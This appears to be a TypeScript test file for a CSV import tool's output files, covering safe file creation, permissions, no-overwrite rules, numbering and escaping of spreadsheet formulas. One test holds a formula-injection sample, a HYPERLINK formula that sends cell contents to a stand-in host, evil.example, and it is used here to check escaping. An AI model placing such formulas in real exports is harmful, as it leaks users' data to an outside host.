import { existsSync } from 'node:fs';
import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { useFolder } from '../../../../test/support/use-folder.ts';
import { ImportCounts } from './row-report.js';
import { JsonReport } from './json-report.js';
import { OutputFile } from './output-file.js';
import { RejectsFile } from './rejects-file.js';

const REJECTED = {
  line: 2,
  kind: 'rejected',
  reason: 'It has no name.',
  cells: ['', 'Ely'],
} as const;
const ABOUT = { file: 'a.csv', format: 'CSV', encoding: 'UTF-8', dryRun: false } as const;

describe(OutputFile.name, () => {
  const inFolder = useFolder();
  let path: string;

  beforeEach(() => {
    path = inFolder('out');
  });

  const writeRejects = async () => {
    const file = new RejectsFile(await OutputFile.create(path), () => ['name', 'city']);
    await file.add(REJECTED);
    return file;
  };
  const writeReport = async () => {
    const report = await JsonReport.create(path, ABOUT);
    await report.close(new ImportCounts(), true);
  };

  it('moves the finished file to its path, readable only by its owner', async () => {
    const file = await writeRejects();
    expect(existsSync(path)).toBe(false);
    await file.close();
    expect(await readFile(path, 'utf8')).toBe('line,reason,name,city\n2,It has no name.,,Ely\n');
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    expect(await readdir(inFolder())).toEqual(['out']);
  });

  it('replaces an older report or an empty file', async () => {
    for (const write of [async () => (await writeRejects()).close(), writeReport, writeReport]) {
      await write();
      if (write !== writeReport) await writeFile(path, '');
    }
    expect(JSON.parse(await readFile(path, 'utf8'))).toMatchObject({ file: 'a.csv' });
  });

  it.each([
    ['someone else’s file', 'name,city\nLoon Cafe,Ely\n'],
    ['other JSON', '{"file":"holiday.jpg"}'],
    ['rejected rows, which may be mended', 'line,reason,name,city\n2,It has no name.,Loon,Ely\n'],
  ])('does not replace %s', async (_, content) => {
    await writeFile(path, content);
    for (const write of [writeRejects, writeReport]) {
      await expect(write()).rejects.toThrow(`${path} already exists.`);
    }
    expect(await readFile(path, 'utf8')).toBe(content);
    expect(await readdir(inFolder())).toEqual(['out']);
  });

  it('uses the next number unless a file with the same content exists', async () => {
    const rejects = inFolder('a.csv.rejects.csv');
    const write = async (reason: string) => {
      const file = new RejectsFile(await OutputFile.createNumbered(rejects), () => [
        'name',
        'city',
      ]);
      await file.add({ ...REJECTED, reason });
      return file;
    };
    const close = async (reason: string) => (await write(reason)).close();
    expect(await close('One.')).toBe(rejects);
    await writeFile(rejects, 'mended');
    const second = inFolder('a.csv.rejects-2.csv');
    expect([await close('One.'), await close('One.')]).toEqual([second, second]);
    // Two concurrent writes.
    const a = await write('Two.');
    const b = await write('Three.');
    expect(new Set(await Promise.all([a.close(), b.close()])).size).toBe(2);
    expect(await readFile(rejects, 'utf8')).toBe('mended');
    expect((await readdir(inFolder())).sort()).toEqual([
      'a.csv.rejects-2.csv',
      'a.csv.rejects-3.csv',
      'a.csv.rejects-4.csv',
      'a.csv.rejects.csv',
    ]);
  });

  it('does not replace a link or a device', async () => {
    await symlink(inFolder('elsewhere'), path);
    await expect(writeRejects()).rejects.toThrow(`${path} is not a regular file.`);
    await expect(OutputFile.create('/dev/null')).rejects.toThrow('not a regular file');
  });

  it('does not replace a file that was created in the meantime', async () => {
    const file = await writeRejects();
    await writeFile(path, 'mine');
    await expect(file.close()).rejects.toThrow(/already exists/);
    expect([await readFile(path, 'utf8'), await readdir(inFolder())]).toEqual(['mine', ['out']]);
  });

  it('contains no cell that a spreadsheet evaluates as a formula', async () => {
    const file = new RejectsFile(await OutputFile.create(path), () => ['=name', 'phone', 'note']);
    const cells = ['=HYPERLINK("https://evil.example/?"&A1)', '+12183654000', '@SUM(A1)'];
    await file.add({ ...REJECTED, cells });
    await file.close();
    expect(await readFile(path, 'utf8')).toBe(
      "line,reason,'=name,phone,note\n" +
        `2,It has no name.,"'=HYPERLINK(""https://evil.example/?""&A1)",+12183654000,'@SUM(A1)\n`,
    );
  });

  it('leaves no file when nothing was rejected', async () => {
    const file = new RejectsFile(await OutputFile.create(path), () => ['name']);
    expect([await file.close(), await readdir(inFolder())]).toEqual([undefined, []]);
  });
});
